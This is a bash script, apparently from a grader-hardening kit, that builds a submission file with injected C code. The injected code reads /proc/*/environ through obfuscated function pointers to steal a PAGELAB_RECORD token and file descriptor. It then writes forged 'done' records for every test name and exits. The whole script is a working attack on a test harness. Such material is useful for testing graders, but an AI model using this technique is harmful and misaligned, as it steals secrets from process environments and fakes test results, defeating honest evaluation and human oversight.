#!/usr/bin/env bash
# make.sh OUTDIR: writes the forge-record-m1 submission into OUTDIR (see ../README).
set -eu
. "$(dirname "$0")/../lib.sh"
OUT=$1
F=phase1-single/fault.c
names=$(grep -ho 'START_TEST(\w*)' "$KIT_DIR"/tests/stage/*.c | sed 's/START_TEST(\(.*\))/"\1", /' | sort -u | tr -d '\n')
write_sample "$OUT" $F "$(with_attack $F "$(hidden_prologue open read write exit)
#include <fcntl.h>
#include <string.h>
static void h6_forge(void)
{
    static const char *const names[] = { $names 0 };
    static const char *const envs[] = { \"/proc/1/environ\", \"/proc/2/environ\", \"/proc/self/environ\", 0 };
    static char env[65536];
    char token[80] = \"\", line[256];
    int fd = -1;
    for (int e = 0; envs[e] != 0 && token[0] == 0; e++) {
        int f = ((int (*)(const char *, int, ...))hidden_open)(envs[e], O_RDONLY);
        long n = f < 0 ? -1 : ((long (*)(int, void *, unsigned long))hidden_read)(f, env, sizeof env - 1);
        for (long i = 0; i + 15 < n; i++)
            if (memcmp(env + i, \"PAGELAB_RECORD=\", 15) == 0) {
                fd = 0;
                for (const char *d = env + i + 15; *d >= '0' && *d <= '9'; d++)
                    fd = fd * 10 + (*d - '0');
                const char *c = strchr(env + i, ':');
                if (c != NULL)
                    snprintf(token, sizeof token, \"%s\", c + 1);
                break;
            }
    }
    if (token[0] == 0)
        return;
    for (int k = 0; names[k] != 0; k++)
        for (int it = 0; it < 10; it++) {
            int len = snprintf(line, sizeof line, \"PLREC %s done %s %d\\n\", token, names[k], it);
            ((long (*)(int, const void *, unsigned long))hidden_write)(fd, line, (unsigned long)len);
        }
    ((void (*)(int))hidden_exit)(0);
}" '    h6_forge();')"
